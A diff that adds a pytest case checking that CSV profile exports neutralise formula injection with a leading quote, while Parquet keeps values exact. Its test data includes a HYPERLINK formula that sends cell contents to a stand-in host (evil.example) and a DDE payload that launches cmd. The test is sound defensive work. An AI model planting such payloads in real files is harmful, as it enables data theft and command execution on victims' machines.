@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import io
 import time
 from pathlib import Path
@@ -156,3 +157,38 @@ def test_export_round_trip(plans: Workspace, tmp_path: Path, fmt: str) -> None:
     other.close()
     with pytest.raises(ValidationError, match="'xlsx'"):
         plans.transfer.export_profiles(fmt="xlsx")
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1)"]
+
+
+def test_csv_export_neutralises_formulas_and_parquet_keeps_them(
+    ws: Workspace, tmp_path: Path
+) -> None:
+    """Formula-leading text from an import and from tracking traits goes out of a CSV with a
+    leading quote (OWASP); Parquet keeps it exact; the CSV imports back as the same text."""
+    ws.transfer.import_profiles(
+        "name,identifier,city\n" + f'"{FORMULAS[0].replace(chr(34), chr(34) * 2)}",u1,-2+3\n'
+    )
+    ws.ingest.messages(
+        [
+            {
+                "type": "identify",
+                "userId": "u2",
+                "traits": {"name": FORMULAS[1], "company": FORMULAS[2]},
+            }
+        ]
+    )
+    data = ws.transfer.export_profiles(fmt="csv")
+    cells = [cell for row in csv.reader(io.StringIO(data.decode())) for cell in row]
+    for value in [*FORMULAS, "-2+3"]:
+        assert "'" + value in cells and value not in cells
+    exact = pd.read_parquet(io.BytesIO(ws.transfer.export_profiles(fmt="parquet")))
+    assert set(FORMULAS[:2]) <= set(exact["name"]) and "-2+3" in set(exact["city"])
+    other = Workspace.open(tmp_path / "other.duckdb")
+    path = tmp_path / "export.csv"
+    path.write_bytes(data)
+    assert other.transfer.import_profiles(path).created == 2
+    again = pd.read_parquet(io.BytesIO(other.transfer.export_profiles(fmt="parquet")))
+    assert set(FORMULAS[:2]) <= set(again["name"])
+    other.close()
